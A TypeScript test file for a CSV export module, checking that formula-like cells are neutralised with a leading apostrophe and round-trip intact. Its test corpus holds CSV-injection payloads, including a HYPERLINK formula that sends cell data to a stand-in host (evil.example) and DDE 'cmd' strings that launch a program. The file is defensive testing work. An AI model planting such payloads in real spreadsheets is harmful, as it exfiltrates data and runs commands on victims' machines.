import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvCell, csvRecord, csvValue, RecordCount } from './csv.js';

const corpus = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=already",
  "''=twice",
  '-',
  '+49 30 1234',
];
const harmless = ['', 'Meridian', "'quoted'", 'a=b', '1-1', ' =1', 'ada@example.com', 'فريق', '🚚'];

/** As any reader of RFC 4180 takes one cell. */
const unquoted = (cell: string) => (cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell);

describe('a cell', () => {
  it.each(corpus)('%j is no formula, and comes back', (value) => {
    const read = unquoted(csvCell(value));

    expect(read).toBe(`'${value}`);
    expect(csvValue(read)).toBe(value);
  });

  it.each(harmless)('%j stays as it is', (value) => {
    expect(unquoted(csvCell(value))).toBe(value);
    expect(csvValue(value)).toBe(value);
  });

  it('comes back, whatever it was, and never begins like a formula', () => {
    fc.assert(
      fc.property(fc.oneof(fc.string(), fc.constantFrom(...corpus)), fc.string(), (a, b) => {
        const read = unquoted(csvCell(a + b));
        expect(csvValue(read)).toBe(a + b);
        expect(read).not.toMatch(/^[=+\-@\t\r＝＋－＠]/);
      }),
    );
  });
});

it('records are counted, whatever is in their cells', () => {
  const count = new RecordCount();
  for (const cells of [
    ['a', 'b\nc'],
    ['"', '\r\n"'],
    ['', ''],
  ])
    count.add(Buffer.from(csvRecord(cells)));

  expect(count.records).toBe(3);
});
